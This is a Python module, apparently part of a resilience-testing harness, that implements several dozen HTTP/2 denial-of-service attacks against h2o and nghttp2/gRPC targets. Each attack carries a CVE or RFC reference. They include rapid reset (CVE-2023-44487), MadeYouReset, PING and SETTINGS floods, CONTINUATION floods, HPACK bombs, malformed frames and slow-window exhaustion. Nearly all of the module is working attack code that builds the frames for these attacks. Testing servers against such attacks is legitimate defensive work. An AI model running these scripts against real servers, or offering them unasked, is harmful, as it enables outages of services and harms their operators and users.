"""over_http2 -- attacks on HTTP/2. What is on HTTP2 meets both implementations: h2o's, and nghttp2 in the gRPC server."""

from __future__ import annotations

from collections.abc import Iterator

import frames
from frames import (
    CONTINUATION,
    DATA,
    GOAWAY,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    MAX_FRAME,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    block,
    data,
    frame,
    headers,
    literal,
    priority,
    reset,
    settings,
    start,
    window_update,
)
from script import ADMIN, AGAIN, DEMO, GRPC, HTTP, HTTP2, NOTES, Line, Script, attack, forever, joined

STREAMS = 100  # of a connection
NO_WINDOW = (INITIAL_WINDOW_SIZE, 0)  # no body of a reply is taken
HUGE_WINDOW = (INITIAL_WINDOW_SIZE, 2**31 - 1)
REPLIES_S = 0.001  # lets the server answer


def first_streams(line: Line, count: int = STREAMS) -> list[int]:
    return [1 + 2 * number for number in range(count)]


def open_block(line: Line) -> bytes:
    """Of a request whose body follows."""
    path = {"notes": "/v1/notes", "demo": "/"}.get(line.target.service, "/routeguide.RouteGuide/RecordRoute")
    return line.target.block("POST", path)


# ---- floods ----


@attack(on=(*HTTP2, *ADMIN), connections=20, reads=False)
def ping_flood(line: Line) -> Script:
    """CVE-2019-9512: PING frames without end over 20 connections, whose answers are not read."""
    yield start()
    yield from forever(frame(PING, 0, b"together") * 2000)


@attack(on=HTTP2, connections=200, reads=False)
def ping_flood_of_many(line: Line) -> Script:
    """CVE-2019-9512: the same over 200 connections, each of which may send before the server counts again."""
    yield from ping_flood(line)


@attack(on=(*HTTP2, *ADMIN), connections=20, reads=False)
def settings_flood(line: Line) -> Script:
    """CVE-2019-9515: empty SETTINGS frames without end over 20 connections, whose acknowledgements are not read."""
    yield start()
    yield from forever(settings() * 2000)


@attack(on=HTTP2, connections=20)
def long_settings(line: Line) -> Script:
    """CVE-2020-11080: SETTINGS frames with 2,730 values each, without end."""
    yield start()
    yield from forever(settings(*[(0xFFFF, 1)] * (MAX_FRAME // 6)))


@attack(on=HTTP2, connections=20)
def acknowledgement_flood(line: Line) -> Script:
    """CVE-2019-9515: acknowledgements of PING and SETTINGS frames that the server has not sent."""
    yield start()
    yield from forever((frame(PING, 0, b"together", frames.ACK) + frame(SETTINGS, 0, b"", frames.ACK)) * 1000)


@attack(on=(*HTTP2, *ADMIN), connections=20)
def empty_frames(line: Line) -> Script:
    """CVE-2019-9518: empty DATA frames that do not end their stream, or empty CONTINUATION frames that do not end their
    block, without end."""
    yield start()
    if line.number % 2 == 0:
        yield headers(1, open_block(line), end=False)
        yield from forever(frame(DATA, 1) * 2000)
    yield headers(1, line.target.block(), whole=False)
    yield from forever(frame(CONTINUATION, 1) * 2000)


@attack(on=HTTP2, connections=20)
def window_flood(line: Line) -> Script:
    """CVE-2019-9517: WINDOW_UPDATE frames of one byte, of the connection and of a stream, without end."""
    yield start() + headers(1, open_block(line), end=False)
    yield from forever((window_update(0, 1) + window_update(1, 1)) * 1000)


@attack(on=HTTP2, connections=20)
def resource_loop(line: Line) -> Script:
    """CVE-2019-9513: 100 streams, and PRIORITY frames that make each depend on another one, without end."""
    yield start() + b"".join(headers(stream, open_block(line), end=False) for stream in first_streams(line))
    turn = 0
    while True:
        turn += 1
        yield b"".join(
            priority(stream, (stream + 2 * turn) % 401 | 1, turn % 256) for stream in first_streams(line) * 5
        )


@attack(on=HTTP2, connections=20)
def unknown_frames(line: Line) -> Script:
    """CVE-2018-1000168: frames of types that a server does not know, ALTSVC, ORIGIN and PRIORITY_UPDATE, without end."""
    kinds = (frames.UNKNOWN, frames.ALTSVC, frames.ORIGIN, frames.PRIORITY_UPDATE, 0xFF)
    yield start()
    yield from forever(b"".join(frame(kind, 0, b"\0" * size) for kind in kinds for size in (0, 4, 9, 300)) * 50)


# ---- streams that end at once ----


@attack(on=(*HTTP, *GRPC, *ADMIN), connections=20)
def rapid_reset(line: Line) -> Script:
    """CVE-2023-44487: requests that are reset as soon as they are sent, without end over 20 connections."""
    yield start()
    asked = line.target.block()
    yield from batches(line.target.request(stream, asked) + reset(stream) for stream in line.streams())


def batches(parts: Iterator[bytes], count: int = 100) -> Script:
    while batch := joined(parts, count):
        yield batch


@attack(on=HTTP2, connections=20, reads=False)
def reset_flood(line: Line) -> Script:
    """CVE-2019-9514: invalid requests, each of which the server answers with RST_STREAM. Nothing is read."""
    yield start()
    wrong = block((":method", "GET"), (":path", line.target.path), (":scheme", "http"), ("Upper", "x"))
    yield from batches(headers(stream, wrong) for stream in line.streams())


MADE_RESETS = (
    lambda stream: window_update(stream, 0),
    lambda stream: window_update(stream, 2**31 - 1),
    lambda stream: priority(stream, stream),
    lambda stream: frame(PRIORITY, stream, b"\0" * 4),
    lambda stream: data(stream, b"x"),
    lambda stream: headers(stream, b"\x82"),
)


@attack(on=(*HTTP, *GRPC), connections=24)
def made_you_reset(line: Line) -> Script:
    """CVE-2025-8671: valid requests, each followed by a frame for which the server has to reset the stream: a
    WINDOW_UPDATE of 0 or beyond the largest window, a wrong PRIORITY, DATA or HEADERS after the end."""
    made = MADE_RESETS[line.number % len(MADE_RESETS)]
    asked = line.target.block()
    yield start()
    yield from batches(line.target.request(stream, asked) + made(stream) for stream in line.streams())


@attack(on=HTTP2, connections=20)
def streams_after_goaway(line: Line) -> Script:
    """CVE-2023-35945 and CVE-2025-23085: GOAWAY from the client, then requests that are reset; the connection is reset."""
    asked = line.target.block()
    yield start() + frame(GOAWAY, 0, b"\0" * 8)
    yield b"".join(line.target.request(stream, asked) + reset(stream) for stream in first_streams(line))
    yield REPLIES_S
    yield AGAIN


# ---- header blocks ----


@attack(on=(*HTTP2, *ADMIN), connections=20)
def continuation_flood(line: Line) -> Script:
    """CVE-2024-27316, CVE-2024-28182 and CVE-2023-45288: header blocks of CONTINUATION frames without end."""
    yield start() + headers(1, line.target.block(), whole=False)
    yield from forever(frame(CONTINUATION, 1, literal(b"x", b"y" * 100)) * 500)


@attack(on=HTTP2, connections=400, exhausts=DEMO)
def half_sent_blocks(line: Line) -> Script:
    """CVE-2024-27919: 400 header blocks of 390 KB, without their ends."""
    yield start() + headers(1, b"\x82", end=False, whole=False) + frames.long_block(1)


@attack(on=HTTP2, connections=400, exhausts=DEMO)
def half_sent_trailers(line: Line) -> Script:
    """CVE-2024-28182: 400 requests with trailers of 390 KB, without their ends."""
    yield start() + headers(1, open_block(line), end=False) + headers(1, b"", whole=False) + frames.long_block(1)


@attack(on=HTTP2, connections=4, reads=False, exhausts=DEMO)
def long_blocks(line: Line) -> Script:
    """CVE-2020-12605: 400 requests with headers of 390 KB over 4 connections, whose answers are not read."""
    yield start(NO_WINDOW)
    for stream in first_streams(line):
        yield headers(stream, line.target.block(), whole=False) + frames.long_block(stream, end=True)


@attack(on=HTTP2, connections=20)
def dripped_blocks(line: Line) -> Script:
    """CVE-2022-41723: a field of 300 KB in CONTINUATION frames of one byte, which are quadratic to put together."""
    yield start() + headers(1, line.target.block() + b"\0\1x" + frames.integer(300_000, 7, 0x80), whole=False)
    yield from forever(frame(CONTINUATION, 1, b"\x1c") * 2000)


@attack(on=(*HTTP, *GRPC, *ADMIN), connections=20)
def hpack_bomb(line: Line) -> Script:
    """CVE-2026-49975: a field of 4,000 bytes in the dynamic table, then 100 requests that name it 2,000 times, by a byte
    each. No body of a reply is taken."""
    asked = line.target.block()
    yield start(NO_WINDOW) + headers(1, asked + literal(b"x", b"y" * 4000, index=True))
    for stream in first_streams(line)[1:]:
        yield headers(stream, asked + b"\xbe" * 2000)


@attack(on=HTTP2, connections=4)
def cache_digests(line: Line) -> Script:
    """RFC 9113, 10.5.1: a Cache-Digest of 4,000 bytes in the dynamic table, named 900 times by a byte each: a decoder that
    unpacks it takes 8 bytes of memory for a bit."""
    asked = line.target.block()
    digest = literal(b"cache-digest", (b"A" if line.number % 2 else b"_") * 4000, index=True)
    yield start(NO_WINDOW) + headers(1, asked + digest)
    for stream in first_streams(line)[1:]:
        yield headers(stream, asked + b"\xbe" * 900)


@attack(on=HTTP2, connections=4)
def long_hpack_bomb(line: Line) -> Script:
    """CVE-2026-49975: header blocks of 400 KB, each byte of which stands for a field of the static table, or for a Host of 3,000
    bytes. No body of a reply is taken."""
    host = literal(b"host", b"x" * 3000, index=True)
    fields = (b"\x90" if line.number % 2 else b"\xbe") * MAX_FRAME
    yield start(NO_WINDOW)
    for stream in first_streams(line):
        yield headers(stream, line.target.block(), whole=False) + frame(CONTINUATION, stream, host)
        yield frames.continuations(stream, fields, 25, end=True)


@attack(on=HTTP2, connections=4, reads=False, exhausts=DEMO)
def repeated_hosts(line: Line) -> Script:
    """CVE-2019-18801: requests with 400 KB in 25 Host fields beside :authority; half of the connections send bodies without an
    end. No answer is read."""
    host = literal(b"host", b"x" * (MAX_FRAME - 144))
    ends = line.number % 2 == 0
    asked = line.target.block() if ends else open_block(line)
    yield start(NO_WINDOW)
    for stream in first_streams(line):
        yield headers(stream, asked, end=ends, whole=False) + frames.continuations(stream, host, 25, end=True)


@attack(on=HTTP2, connections=20)
def cookie_crumbs(line: Line) -> Script:
    """GHSA-22m2-hvr2-xqc8: requests with 4,000 indexed cookies each, which are joined. No body of a reply is taken."""
    asked = line.target.block()
    yield start(NO_WINDOW) + headers(1, asked + literal(b"cookie", b"c" * 3900, index=True))
    yield from batches((headers(stream, asked + b"\xbe" * 4000) for stream in first_streams(line)[1:]), 10)


@attack(on=HTTP2, connections=20)
def empty_names(line: Line) -> Script:
    """CVE-2019-9516: header blocks of fields whose name and value are empty, spelled out or in Huffman's code."""
    yield start()
    fields = line.target.block() + (b"\0\0\0" * 2000 + b"\0\x80\x80" * 2000)
    yield from batches((headers(stream, fields) for stream in line.streams()), 5)


@attack(on=HTTP2, connections=20)
def long_integers(line: Line) -> Script:
    """CVE-2023-33953: lengths of HPACK with thousands of leading zeros, and strings of 4 GB whose end never comes."""
    yield start() + headers(1, line.target.block() + b"\0\1x\x7f", whole=False)
    if line.number % 2 == 0:
        yield from forever(frame(CONTINUATION, 1, b"\x80" * MAX_FRAME))
    yield frame(CONTINUATION, 1, b"\xff\xff\xff\xff\x0e")
    yield from forever(frame(CONTINUATION, 1, b"y" * MAX_FRAME))


@attack(on=HTTP2, connections=20)
def table_sizes(line: Line) -> Script:
    """CVE-2016-1544: header blocks of thousands of changes of the dynamic table's size, and of fields that fill it."""
    yield start()
    sizes = (b"\x20" + b"\x3f\xe1\x1f") * 2000
    fill = b"".join(literal(b"n%d" % number, b"v" * 100, index=True) for number in range(100))
    asked = line.target.block()
    yield from batches((headers(stream, sizes + fill + asked) for stream in line.streams()), 5)


@attack(on=HTTP2, connections=20)
def names_that_differ(line: Line) -> Script:
    """CVE-2022-41717 and CVE-2021-44716: requests with 50 names of fields each that no other request has."""
    yield start()
    asked = line.target.block()

    def named(stream: int) -> bytes:
        fields = (literal(b"x-%d-%d-%d" % (line.number, stream, number), b"", index=True) for number in range(50))
        return line.target.request(stream, asked + b"".join(fields))

    yield from batches((named(stream) for stream in line.streams()), 10)


@attack(on=HTTP2, connections=50)
def block_then_reset(line: Line) -> Script:
    """CVE-2024-27983: a header block without its end, a CONTINUATION frame, and at once a reset of the TCP connection."""
    yield start() + headers(1, line.target.block(), whole=False) + frame(CONTINUATION, 1, literal(b"x", b"y"))
    yield AGAIN


# ---- requests and frames that are wrong ----


def wrong_requests(line: Line) -> list[bytes]:
    fields, path = line.target.fields(), line.target.path
    without = [block(*(field for field in fields if field[0] != name)) for name in (":method", ":path", ":scheme")]
    return [
        *without,
        block(*fields, ("te", "x"), ("big", "x" * 9000)),  # CVE-2023-1428
        block(*fields, ("grpclb_client_stats", "x"), ("big", "x" * 9000)),
        block(*((name, "x" if name == ":scheme" else value) for name, value in fields), ("big", "x" * 9000)),
        block(*((name, "h" * 300 if name == ":authority" else value) for name, value in fields)),  # CVE-2024-32475
        block(*((name, path[1:] if name == ":path" else value) for name, value in fields)),  # CVE-2026-33186
        block(*((name, "" if name == ":path" else value) for name, value in fields)),
        block(*((name, "CONNECT" if name == ":method" else value) for name, value in fields)),
        block(*fields, (":path", path)),
        block(*fields, (":unknown", "x")),
        block(*fields, ("connection", "keep-alive"), ("transfer-encoding", "chunked")),
        block(*fields, ("content-length", "5")),
        block(*fields, ("content-length", "-1")),
        block(*fields, ("content-length", "5"), ("content-length", "6")),
        block(*fields, ("x", "a\r\nb: c\0")),  # CVE-2023-27493
        block(*fields, ("host", "other"), ("host", "another")),
        block(*fields) + literal(b"a b\xff", b"x"),
    ]


@attack(on=(*HTTP, *GRPC, *ADMIN), connections=40)
def wrong_blocks(line: Line) -> Script:
    """CVE-2023-1428, CVE-2024-32475, CVE-2026-33186 and others: 19 kinds of requests that HTTP/2 or gRPC forbids, with and
    without a body."""
    wrong = wrong_requests(line)
    yield start()
    streams = line.streams()
    for asked in wrong[line.number % len(wrong) :] + wrong:
        yield headers(next(streams), asked)
        yield headers(stream := next(streams), asked, end=False) + data(stream, b"x" * 10, end=True)
    yield 0.01
    yield AGAIN


def wrong_frames() -> list[bytes]:
    some = [
        frame(kind, stream, b"\0" * size, flags)
        for kind in range(10)
        for stream in (0, 1, 2)
        for size in (0, 3, 5, 9)
        for flags in (0, 0x2D)  # padded, with priority, and the end of what it begins or acknowledges
    ]
    some += [frame(DATA, 1, b"\xff", frames.PADDED), frame(HEADERS, 3, b"\xff\x82", frames.PADDED)]
    some += [headers(3, bytes((byte,)) * 20) for byte in (0x3F, 0x7F, 0x80, 0xFF)]  # CVE-2025-59465: no HPACK
    some += [
        settings((frames.ENABLE_PUSH, 2)),
        settings((INITIAL_WINDOW_SIZE, 2**31)),
        settings((frames.MAX_FRAME_SIZE, 0)),
    ]
    some += [b"\xff\xff\xff\0\0\0\0\0\1", frame(DATA, 1, b"x" * (MAX_FRAME + 1)), frame(0x80, 2**31 + 1)]
    return some


WRONG_FRAMES = wrong_frames()


@attack(on=(*HTTP2, *ADMIN), connections=40)
def malformed_frames(line: Line) -> Script:
    """CVE-2025-59465 and CVE-2026-33814: more than 240 malformed frames, one for each connection, beside an open stream."""
    yield (
        start()
        + headers(1, open_block(line), end=False)
        + WRONG_FRAMES[(line.number + 40 * line.turn) % len(WRONG_FRAMES)]
    )
    yield 0.005
    yield AGAIN


@attack(on=HTTP2, connections=40)
def frames_after_an_error(line: Line) -> Script:
    """CVE-2026-27135: a frame for which the connection ends, and in the same segment frames of a wrong size."""
    wrong = (line.number + 40 * line.turn) % len(WRONG_FRAMES)
    error = (frame(SETTINGS, 1), frame(WINDOW_UPDATE, 0, b"\0" * 4), headers(2, line.target.block()))[wrong % 3]
    yield start() + error + WRONG_FRAMES[wrong] + frame(PING, 0, b"x") + frame(RST_STREAM, 1, b"x")
    yield 0.005
    yield AGAIN


# ---- bodies ----


@attack(on=HTTP2, connections=20, windows=True)
def tiny_data(line: Line) -> Script:
    """CVE-2020-12603: bodies in DATA frames of one byte, half of them with 255 bytes of padding."""
    yield start()
    asked = open_block(line)
    padded = frame(DATA, 1, b"\xffx" + b"\0" * 255, frames.PADDED)
    size = 257 if line.number % 2 else 1
    for stream in line.streams():
        yield headers(stream, asked, end=False)
        line.windows.pop(stream - 2, None)
        for _ in range(20):
            while line.room(stream) < 100 * size:
                yield REPLIES_S
            line.take(stream, 100 * size)
            part = frame(DATA, stream, b"x") if size == 1 else padded[:5] + stream.to_bytes(4, "big") + padded[9:]
            yield part * 100
        yield reset(stream)


@attack(on=(*HTTP, *ADMIN), connections=60, exhausts=HTTP)
def half_sent_stream_bodies(line: Line) -> Script:
    """RFC 9113, 10.5: 6,000 bodies of which 60,000 of 60,010 bytes are sent, over 60 connections."""
    asked = line.target.block("POST", "/", content_length="60010")
    yield start() + b"".join(headers(stream, asked, end=False) for stream in first_streams(line))
    yield window_update(0, 2**20)
    for stream in first_streams(line):
        yield data(stream, b"x" * 60_000)


@attack(on=NOTES, connections=36, windows=True)
def half_sent_notes(line: Line) -> Script:
    """RFC 9113, 10.5: 3,600 notes without their last bytes over 36 connections, as far as the server's windows allow."""
    size = 65_000
    asked = line.target.block("POST", "/v1/notes", content_type="application/json", content_length=str(size + 10))
    yield start() + b"".join(headers(stream, asked, end=False) for stream in first_streams(line))
    left = dict.fromkeys(first_streams(line), size)
    while any(left.values()):
        for stream in left:
            while count := line.take(stream, left[stream]):
                left[stream] -= count
                yield data(stream, b"x" * count)
        yield 0.02


@attack(on=NOTES, connections=8, windows=True)
def too_large_bodies(line: Line) -> Script:
    """RFC 9113, 8.7: bodies of 700,000 bytes, each sent again as a client does that is told REFUSED_STREAM."""
    asked = line.target.block("POST", "/v1/notes", content_type="application/json", content_length="700000")
    yield start()
    for stream in line.streams():
        yield headers(stream, asked, end=False)
        for _ in range(20):
            if count := line.take(stream, 700_000):
                yield data(stream, b"x" * count)
        yield reset(stream)
        yield REPLIES_S


# ---- streams that stay open ----


@attack(on=(*HTTP2, *ADMIN))
def idle_streams(line: Line) -> Script:
    """CVE-2021-32778: 10,100 streams on one connection, which all stay open as far as the server allows."""
    asked = open_block(line)
    yield start()
    yield from batches((headers(stream, asked, end=False) for stream in first_streams(line, 10_100)), 100)


@attack(on=DEMO, connections=102)
def delayed_requests(line: Line) -> Script:
    """RFC 9113, 10.5: 102 connections, on each of which 100 requests wait for an answer that takes long."""
    asked = line.target.block("GET", "/demo/hello?delay=60000")
    yield start() + b"".join(headers(stream, asked) for stream in first_streams(line))


@attack(on=DEMO, connections=102)
def joined_baggage(line: Line) -> Script:
    """RFC 9113, 10.5.1: the same, and each request names a field of 1,600 bytes in the dynamic table five times, by a byte each, which
    the server joins to one list."""
    asked = line.target.block("GET", "/demo/hello?delay=60000")
    item = literal(b"baggage", b"a=" + b"x" * 1598, index=True)
    first, *others = first_streams(line)
    yield start() + headers(first, asked + item)
    yield b"".join(headers(stream, asked + b"\xbe" * 5) for stream in others)


@attack(on=(*HTTP, *ADMIN), connections=50)
def data_dribble(line: Line) -> Script:
    """CVE-2019-9511: 100 streams of a connection ask for a large reply, and open their windows by one byte at a time."""
    asked = line.target.block("GET", line.target.large)
    streams = first_streams(line)
    yield start(NO_WINDOW) + b"".join(headers(stream, asked) for stream in streams)
    yield from forever(b"".join(window_update(stream, 1) + priority(stream, 0, stream % 256) for stream in streams))


@attack(on=HTTP, connections=8, reads=False, exhausts=NOTES)
def unread_replies(line: Line) -> Script:
    """CVE-2023-43622: 800 large replies over 8 connections, for which the client opens no window."""
    asked = line.target.block("GET", line.target.large)
    yield start(NO_WINDOW) + b"".join(headers(stream, asked) for stream in first_streams(line))


@attack(on=(*HTTP, *ADMIN), connections=20, reads=False)
def closed_tcp_window(line: Line) -> Script:
    """CVE-2019-9517: requests for large replies without end, with a window of 2 GB, over 20 connections that are not read."""
    asked = line.target.block("GET", line.target.large)
    yield start(HUGE_WINDOW) + window_update(0, 2**31 - 1 - frames.WINDOW)
    yield from batches((headers(stream, asked) for stream in line.streams()), 10)


@attack(on=HTTP2, connections=20)
def changing_windows(line: Line) -> Script:
    """CVE-2020-11080: 100 streams wait, while SETTINGS frames open and close all their windows without end."""
    yield start(NO_WINDOW) + b"".join(
        line.target.request(stream, line.target.block()) for stream in first_streams(line)
    )
    yield from forever((settings((INITIAL_WINDOW_SIZE, 1)) + settings(NO_WINDOW)) * 300)


@attack(on=HTTP2, connections=20)
def wide_limits(line: Line) -> Script:
    """CVE-2025-1948: the client's limits are all set to 4 GB; then requests."""
    yield start(
        *((name, 2**32 - 1) for name in (frames.HEADER_TABLE_SIZE, frames.MAX_STREAMS, frames.MAX_HEADER_LIST_SIZE))
    )
    asked = line.target.block()
    yield from batches(line.target.request(stream, asked) for stream in line.streams())


@attack(on=(*HTTP, *ADMIN), connections=400, reads=False, exhausts=DEMO)
def unread_upgrades(line: Line) -> Script:
    """CVE-2020-13934: 400 upgrades to HTTP/2 with heads of 400 KB, whose answers are not read."""
    fields = ("Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAQAAAAA")  # as NO_WINDOW
    head = line.target.head("GET", "", *fields).removesuffix(b"\r\n")
    yield head + b"".join(b"X-%d: %s\r\n" % (number, b"y" * 8000) for number in range(50)) + b"\r\n" + start()


@attack(on=DEMO, connections=2500)
def busy_streams(line: Line) -> Script:
    """CVE-2020-8663: more connections than the listener takes, each with a stream whose body does not come."""
    yield start() + headers(1, line.target.block("POST", "/demo/hello"), end=False)


@attack(on=(*HTTP2, *ADMIN), connections=1000)
def stalled_connections(line: Line) -> Script:
    """CVE-2024-22201: 1,000 connections that end in the middle of a frame, or behind the first SETTINGS frame."""
    yield start()[: 24 + line.number % 10]
